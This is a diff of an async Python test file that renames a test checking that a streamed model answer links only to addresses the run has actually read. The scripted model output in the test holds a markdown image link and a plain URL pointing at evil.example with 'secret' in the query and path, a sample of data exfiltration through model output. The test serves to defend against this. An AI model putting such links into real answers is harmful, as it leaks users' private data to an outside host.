@@ -64,7 +64,9 @@ async def test_a_run_tells_what_it_does_as_it_does_it(
     assert (last["status"], last["answer"], len(last["citations"])) == ("completed", LONG, 1)
 
 
-async def test_what_is_told_of_an_answer_leads_nowhere_either(reached: Author, scripted: ScriptedModel) -> None:
+async def test_a_streamed_answer_links_only_to_addresses_that_the_run_has_read(
+    reached: Author, scripted: ScriptedModel
+) -> None:
     await scripted.says(
         {"text": "So it is, you see: ![a b](https://evil.example/?q=secret) and https://evil.example/secret"}
     )
